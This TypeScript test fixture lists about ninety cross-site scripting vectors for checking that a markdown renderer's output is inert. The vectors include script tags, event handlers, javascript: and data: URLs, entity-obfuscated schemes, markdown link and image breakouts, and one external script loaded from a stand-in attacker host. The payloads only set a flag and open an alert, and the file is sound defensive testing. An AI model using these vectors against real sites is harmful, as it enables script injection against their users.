/**
 * Known cross-site scripting vectors, written as a member could type them into a post or a
 * comment. lib/xss.test.ts renders each through renderMarkdown and checks the HTML is inert;
 * e2e/xss.spec.ts publishes them and checks, in a real browser, that nothing ran.
 *
 * Every payload does the same two things — sets `window.__xss` and opens an alert — so a browser
 * test can notice either. Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS
 * cheat sheet, and markdown-specific tricks (link and image destinations, reference definitions,
 * autolinks, titles that try to break out of their attribute).
 */
export const XSS_PAYLOAD = 'window.__xss=1,alert(1)';

const P = XSS_PAYLOAD;
const entities = (s: string, hex = false) => [...s].map((c) => (hex ? `&#x${c.charCodeAt(0).toString(16)};` : `&#${c.charCodeAt(0)};`)).join('');

export type XssVector = { name: string; source: string };

export const XSS_VECTORS: XssVector[] = [
  // Script elements.
  { name: 'script tag', source: `<script>${P}</script>` },
  { name: 'script tag, upper case, external source', source: '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>' },
  { name: 'script split by a nested script', source: `<scr<script>ipt>${P}</scr</script>ipt>` },
  { name: 'script in a heading', source: `# Title <script>${P}</script>` },
  { name: 'script inside a list item', source: `- item <script>${P}</script>` },
  { name: 'script in a table cell', source: `| a | b |\n|---|---|\n| <script>${P}</script> | x |` },
  // Event handlers.
  { name: 'img onerror', source: `<img src=x onerror="${P}">` },
  { name: 'img onerror, mixed case, unquoted', source: `<IMG SRC=x OnErRoR=${P}>` },
  { name: 'img onerror, unclosed tag', source: `<img src=x onerror=${P}//` },
  { name: 'img with nested quotes', source: `<img """><script>${P}</script>">` },
  { name: 'img srcset with onerror', source: `<img srcset="x 1x" onerror="${P}">` },
  { name: 'svg onload', source: `<svg onload=${P}>` },
  { name: 'svg/onload without a space', source: `<svg/onload=${P}>` },
  { name: 'body onload', source: `<body onload=${P}>` },
  { name: 'details ontoggle', source: `<details open ontoggle=${P}><summary>x</summary></details>` },
  { name: 'input autofocus onfocus', source: `<input autofocus onfocus=${P}>` },
  { name: 'select autofocus onfocus', source: `<select autofocus onfocus=${P}></select>` },
  { name: 'textarea autofocus onfocus', source: `<textarea autofocus onfocus=${P}></textarea>` },
  { name: 'video source onerror', source: `<video><source onerror="${P}"></video>` },
  { name: 'audio onerror', source: `<audio src=x onerror=${P}>` },
  { name: 'marquee onstart', source: `<marquee onstart=${P}>x</marquee>` },
  { name: 'div onmouseover', source: `<div onmouseover="${P}">hover me</div>` },
  { name: 'a onclick', source: `<a href="#" onclick="${P}">click</a>` },
  // Framing and embedding.
  { name: 'iframe javascript src', source: `<iframe src="javascript:${P}"></iframe>` },
  { name: 'iframe srcdoc', source: `<iframe srcdoc="<script>${P}</script>"></iframe>` },
  { name: 'object data', source: `<object data="javascript:${P}"></object>` },
  { name: 'embed src', source: `<embed src="javascript:${P}">` },
  { name: 'form action', source: `<form action="javascript:${P}"><button>go</button></form>` },
  { name: 'button formaction', source: `<button formaction="javascript:${P}">go</button>` },
  { name: 'meta refresh', source: `<meta http-equiv="refresh" content="0;url=javascript:${P}">` },
  { name: 'base href', source: `<base href="javascript:${P}//">` },
  { name: 'link import', source: `<link rel=import href="data:text/html,<script>${P}</script>">` },
  // Styles.
  { name: 'style element with javascript url', source: `<style>body{background:url("javascript:${P}")}</style>` },
  { name: 'style attribute expression()', source: `<div style="width: expression(${P})">x</div>` },
  { name: 'style attribute with url()', source: `<p style="background-image: url(javascript:${P})">x</p>` },
  // SVG and MathML.
  { name: 'svg with inner script', source: `<svg><script>${P}</script></svg>` },
  { name: 'svg foreignObject', source: `<svg><foreignObject><img src=x onerror="${P}"></foreignObject></svg>` },
  { name: 'svg animate onbegin', source: `<svg><animate onbegin="${P}" attributeName=x dur=1s>` },
  { name: 'svg a xlink:href', source: `<svg><a xlink:href="javascript:${P}"><text y="20">x</text></a></svg>` },
  { name: 'math href', source: `<math href="javascript:${P}">click</math>` },
  { name: 'math mglyph style confusion', source: `<math><mtext><table><mglyph><style><img src=x onerror="${P}">` },
  // Raw HTML links.
  { name: 'raw a javascript href', source: `<a href="javascript:${P}">click</a>` },
  { name: 'raw a entity-encoded href', source: `<a href="&#x6A;avascript:${P}">click</a>` },
  { name: 'raw a with tab entity in scheme', source: `<a href="jav&#x09;ascript:${P}">click</a>` },
  { name: 'raw a with leading spaces', source: `<a href="  javascript:${P}">click</a>` },
  { name: 'raw a with mixed quotes', source: `<a href='javascript:${P}' title="x'y">q</a>` },
  // Markdown links.
  { name: 'markdown link, javascript:', source: `[click](javascript:${P})` },
  { name: 'markdown link, mixed case scheme', source: `[click](JaVaScRiPt:${P})` },
  { name: 'markdown link, &colon; entity', source: `[click](javascript&colon;${P})` },
  { name: 'markdown link, decimal entities', source: `[click](${entities('javascript:')}${P})` },
  { name: 'markdown link, hex entities', source: `[click](${entities('javascript:', true)}${P})` },
  { name: 'markdown link, partial hex entity', source: `[click](&#x6A;avascript:${P})` },
  { name: 'markdown link, tab entity in scheme', source: `[click](java&#x09;script:${P})` },
  { name: 'markdown link, newline entity in scheme', source: `[click](java&#x0A;script:${P})` },
  { name: 'markdown link, raw tab in angle brackets', source: `[click](<java\tscript:${P}>)` },
  { name: 'markdown link, control character before scheme', source: `[click](\u0001javascript:${P})` },
  { name: 'markdown link, NUL inside scheme', source: `[click](java\u0000script:${P})` },
  { name: 'markdown link, leading space', source: `[click]( javascript:${P})` },
  { name: 'markdown link, comment payload after //', source: '[click](javascript://%0aalert(1))' },
  { name: 'markdown link, vbscript:', source: '[click](vbscript:msgbox(1))' },
  { name: 'markdown link, data: html base64', source: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'markdown link, data: html in angle brackets', source: `[click](<data:text/html,<script>${P}</script>>)` },
  { name: 'markdown link with title', source: `[click](javascript:${P} "title")` },
  { name: 'markdown link title breaking out', source: `[x](https://example.com "a\\" onmouseover=\\"${P}")` },
  { name: 'markdown link, url breaking out of href', source: `[x](https://example.com/"onmouseover="${P})` },
  // Markdown images.
  { name: 'markdown image, javascript:', source: `![x](javascript:${P})` },
  { name: 'markdown image, data: svg', source: `![x](data:image/svg+xml,<svg onload=${P}>)` },
  { name: 'markdown image, alt breaking out', source: `![x"onerror="${P}](https://example.com/a.png)` },
  { name: 'markdown image, src breaking out', source: `![x](https://example.com/a.png"onerror="${P})` },
  { name: 'markdown image inside a link', source: `[![x](javascript:${P})](javascript:${P})` },
  // Reference-style links and definitions.
  { name: 'reference link', source: `[click][r]\n\n[r]: javascript:${P}` },
  { name: 'reference image', source: `![x][r]\n\n[r]: javascript:${P}` },
  { name: 'collapsed reference, mixed case', source: `[click][]\n\n[click]: JAVASCRIPT:${P}` },
  { name: 'reference with entity scheme', source: `[click][r]\n\n[r]: &#106;avascript:${P}` },
  // Autolinks.
  { name: 'autolink javascript:', source: `<javascript:${P}>` },
  { name: 'autolink, upper case', source: `<JAVASCRIPT:${P}>` },
  { name: 'autolink vbscript:', source: '<vbscript:msgbox(1)>' },
  { name: 'autolink breaking out of href', source: `<https://example.com/"onmouseover="${P}>` },
  { name: 'GFM literal autolink breaking out', source: `www.example.com/"onmouseover="${P}` },
  // Comments, CDATA, and other tokenizer tricks.
  { name: 'HTML comment hiding a script', source: `<!-- <script>${P}</script> -->` },
  { name: 'comment closed early', source: `<!--><img src=x onerror="${P}">-->` },
  { name: 'CDATA section', source: `<![CDATA[<script>${P}</script>]]>` },
  { name: 'processing instruction', source: `<?xml version="1.0"?><script>${P}</script>` },
  { name: 'noscript confusion', source: `<noscript><p title="</noscript><img src=x onerror=${P}>"></noscript>` },
  { name: 'template content', source: `<template><img src=x onerror="${P}"></template>` },
  { name: 'HTML in inline code stays text', source: `\`<img src=x onerror="${P}">\`` },
  { name: 'HTML in a fenced block stays text', source: `\`\`\`html\n<script>${P}</script>\n\`\`\`` },
  { name: 'footnote with a javascript link', source: `Note[^1]\n\n[^1]: [x](javascript:${P})` },
  { name: 'task list item with an event handler', source: `- [ ] <img src=x onerror="${P}">` },
  { name: 'HTML after a link on one line', source: `[ok](https://example.com) <img src=x onerror="${P}">` },
];
